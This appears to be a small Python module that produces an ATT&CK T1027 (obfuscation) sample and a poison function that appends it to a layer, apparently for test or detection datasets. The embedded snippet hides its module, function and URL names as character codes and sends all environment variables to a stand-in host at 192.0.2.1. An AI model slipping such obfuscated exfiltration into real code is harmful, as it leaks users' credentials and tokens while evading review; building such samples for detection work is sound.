# SPDX-License-Identifier: Apache-2.0
"""Names and addresses put together from numbers."""

ATTACK = "T1027"
LANGUAGE = "python"
CODE = """\
def _s(*codes):
    return "".join(chr(c) for c in codes)


_m = __import__(_s(117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116), fromlist=["x"])
_o = __import__(_s(111, 115))
getattr(_m, _s(117, 114, 108, 111, 112, 101, 110))(
    _s(104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 49, 47), str(getattr(_o, _s(101, 110, 118, 105, 114, 111, 110))).encode())
"""


def poison(layer):
    layer.append(CODE)
